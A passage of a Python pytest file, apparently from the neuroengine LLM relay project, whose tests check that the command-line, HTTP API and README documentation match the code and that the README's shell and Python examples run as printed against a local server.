    sections = re.split("^## (.*)$", document("docs/command-line.md"), flags=re.M)
    documented = {heading: options_in(text) for heading, text
                  in zip(sections[1::2], sections[2::2])}
    documented["chat"] = documented["ask"] - {"--json"}
    for command in commands:
        assert documented[command] - common == (
            options_in(help_of(command)) - common - {"--help"}), command


def test_documented_commands_of_chat_are_the_codes():
    assert [row[0] for row in table("docs/command-line.md", "## chat")] == [
        ("/%s %s" % (name, arguments)).strip()
        for name, (arguments, _) in neuroengine.Chat.COMMANDS.items()]


def test_documented_environment_is_what_the_code_reads():
    with open(neuroengine.__file__, encoding="utf-8") as file:
        read = set(re.findall(r"\bNEUROENGINE_[A-Z_]+", file.read()))
    assert read == {row[0] for row in table("docs/command-line.md", "## Environment")}


def test_what_readme_says_is_printed_is_in_the_code():
    """Where README has "...", something follows that depends."""
    constants = [node.value for name in ("neuroengine.py", "neuroengine_server.py")
                 for node in ast.walk(ast.parse(document(name)))
                 if isinstance(node, ast.Constant) and isinstance(node.value, str)]
    text = document("README.md").split("\n## When it does not work\n", 1)[1]
    for said in re.findall(r"`([^`]+)`", "".join(re.findall(r"^\| (`.*?) \|", text, re.M))):
        parts = said.split("...")
        assert any(all(part in constant for part in parts) for constant in constants), said


def test_documented_reserved_names_are_the_codes():
    text = document("docs/http-api.md").split("## Names", 1)[1].split("##", 1)[0]
    for name in neuroengine_server.RESERVED_NAMES:
        assert "`%s`" % name in text


def test_both_files_agree_on_paths_and_words():
    with open(neuroengine.__file__, encoding="utf-8") as file:
        text = file.read()
    for path in re.findall(r'"(/(?:provider|api/services|api/models)[a-z/%]*)"', text):
        segments = tuple(part.replace("%s", "x") for part in path.split("/") if part)
        assert neuroengine_server.find_route(segments)[0] or "provider" in segments, path
    for name in re.findall(r'error\.name [!=]= "([a-z_]+)"', text):
        assert name in neuroengine_server.ERRORS or name in (
            "no_connection", "bad_answer"), name


def test_the_test_command_is_the_one_that_ci_runs():
    with open(os.path.join(HERE, ".ci", "run"), encoding="utf-8") as file:
        assert "'^python3 -m venv .venv && ' README.md" in file.read()
    assert document("README.md").count("\npython3 -m venv .venv && ") == 1


def anchors(text):
    """What GitHub calls the headings of a document."""
    return {re.sub(r"[^\w -]", "", heading.lower()).replace(" ", "-")
            for heading in re.findall(r"^#+ (.*)$", text, re.M)}


@pytest.mark.parametrize("name", DOCUMENTS)
def test_links_within_the_documents_lead_somewhere(name):
    for link in re.findall(r"\]\(([^)\s]+)\)", document(name)):
        if link.startswith(("http:", "https:")):
            continue
        path, _, anchor = link.partition("#")
        path = os.path.normpath(os.path.join(os.path.dirname(name), path)) if path else name
        assert os.path.exists(os.path.join(HERE, path)), link
        assert not anchor or anchor in anchors(document(path)), link


def test_readme_stays_short_and_names_all_documents():
    text = document("README.md")
    assert len(text.encode()) <= 20000
    assert [name for name in DOCUMENTS[1:] if "(%s)" % name not in text] == []


@pytest.fixture
def paste(tmp_path):
    """Run a block of README in a terminal of its own, in a fresh copy of the checkout, on a
    free port in place of 8000."""
    folder, port, terminals = tmp_path / "checkout", free_port(), []
    folder.mkdir()
    for name in ("neuroengine.py", "neuroengine_server.py", "chat.html", "server-example.py"):
        shutil.copy(os.path.join(HERE, name), str(folder))

    def paste(block, shell=("bash", "-c"), **environment):
        text = block.replace("8000", str(port)).replace("python3 ", sys.executable + " -u ")
        terminals.append(subprocess.Popen(
            [*shell, text], cwd=str(folder), stdin=subprocess.DEVNULL, start_new_session=True,
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
            env=dict(os.environ, NEUROENGINE_HOME=str(tmp_path), **environment)))
        return terminals[-1]
    paste.url = "http://localhost:%d" % port
    yield paste
    for terminal in terminals:
        with contextlib.suppress(OSError):
            os.killpg(terminal.pid, signal.SIGKILL)
        terminal.wait()
        terminal.stdout.close()


def blocks(name, language):
    """The code blocks of a document in that language, in their order."""
    return re.findall(r"^```%s\n(.*?)^```$" % language, document(name), re.M | re.S)


@pytest.mark.skipif(not shutil.which("bash"), reason="the blocks are for a Unix shell")
def test_readmes_first_screen_works_as_printed(paste):
    relay, provider = blocks("README.md", "sh")[1:3]
    client, _, use, streamkey = blocks("README.md", "python")[:4]
    assert b"listens" in paste(relay).stdout.readline()
    assert b"Logged in!" in paste(provider).stdout.readline()
    python = (sys.executable, "-c")
    said, _ = paste(client, python).communicate(timeout=SOON)
    assert "prints `%s`" % said.decode().strip() in document("README.md")
    said, _ = paste(use + streamkey, python, NEUROENGINE_SERVER=paste.url).communicate(
        timeout=SOON)
    parrot = b"This is the LLM. You said: "
    assert said == parrot + b"What is the size of Mars?\n" + 2 * (parrot + b"Write a poem")
